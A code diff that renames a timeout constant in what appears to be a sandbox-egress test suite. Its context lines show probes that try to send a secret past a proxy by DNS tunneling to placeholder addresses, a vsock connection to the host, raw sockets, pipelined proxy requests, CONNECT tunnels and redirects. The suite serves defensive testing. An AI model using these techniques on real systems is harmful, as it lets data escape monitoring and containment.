@@ -15,7 +15,7 @@ import urllib.request
 from typing import NamedTuple
 
 PROXY = ("127.0.0.1", 3128)
-GUARD = 20  # seconds
+TIMEOUT = 20  # seconds; the machine has this file alone, so it is none of support.guards
 PAST = "nothing leads out but the proxy"
 UNNAMED = "no rule names it"
 UNCLEAR = "two programs could understand it in two ways"
@@ -46,7 +46,7 @@ def packet(kind, address, port, family=socket.AF_INET):
 
     def send(facts):
         with socket.socket(family, kind) as sock:
-            sock.settimeout(GUARD)
+            sock.settimeout(TIMEOUT)
             sock.connect((filled(address, facts), int(filled(port, facts))))
             sock.sendall(facts["leak"].encode())
             return sock.recv(100)
@@ -69,14 +69,14 @@ def query(name):
 
 def ask_udp(facts):
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
-        sock.settimeout(GUARD)
+        sock.settimeout(TIMEOUT)
         sock.connect(("203.0.113.11", 53))
         sock.send(query(f"{facts['leak']}.tunnel.test"))
         return sock.recv(500)
 
 
 def ask_tcp(facts):
-    with socket.create_connection(("203.0.113.12", 53), GUARD) as sock:
+    with socket.create_connection(("203.0.113.12", 53), TIMEOUT) as sock:
         question = query(f"{facts['leak']}.tunnel.test")
         sock.sendall(struct.pack("!H", len(question)) + question)
         return sock.recv(500)
@@ -165,7 +165,7 @@ def broadcast(facts):
 
 def vsock(facts):
     with socket.socket(getattr(socket, "AF_VSOCK", 40), socket.SOCK_STREAM) as sock:
-        sock.settimeout(GUARD)
+        sock.settimeout(TIMEOUT)
         sock.connect((2, int(facts["trap"])))  # CID 2: the host
         return sock.send(facts["leak"].encode())
 
@@ -196,7 +196,7 @@ def proxied(raw):
     """Send bytes to the proxy as they are."""
 
     def ask(facts):
-        with socket.create_connection(PROXY, GUARD) as sock:
+        with socket.create_connection(PROXY, TIMEOUT) as sock:
             sock.sendall(raw if isinstance(raw, bytes) else filled(raw, facts).encode("latin-1"))
             return answer(sock)
 
@@ -223,7 +223,7 @@ def second(url, *, pipelined):
         host = url.partition("://")[2].partition("/")[0]
         two = f"GET {url} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n"
         one, two = (filled(text, facts).encode() for text in (one, two))
-        with socket.create_connection(PROXY, GUARD) as sock:
+        with socket.create_connection(PROXY, TIMEOUT) as sock:
             sock.sendall(one + two if pipelined else one)
             first = until(sock, b"hello")
             assert b"200 OK" in first, first
@@ -237,7 +237,7 @@ def second(url, *, pipelined):
 def tunnel(target, facts):
     """Return a connection through a tunnel that the proxy lets begin."""
     target = filled(target, facts)
-    sock = socket.create_connection(PROXY, GUARD)
+    sock = socket.create_connection(PROXY, TIMEOUT)
     sock.sendall(f"CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n".encode())
     head = until(sock, b"\r\n\r\n")
     assert b" 200 " in head, head
@@ -312,7 +312,7 @@ def redirected(target):
 
     def follow(facts):
         url = f"http://{facts['name']}.plain.test/redirect?to={filled(target, facts)}"
-        return urllib.request.urlopen(url, timeout=GUARD).read()
+        return urllib.request.urlopen(url, timeout=TIMEOUT).read()
 
     return follow
 
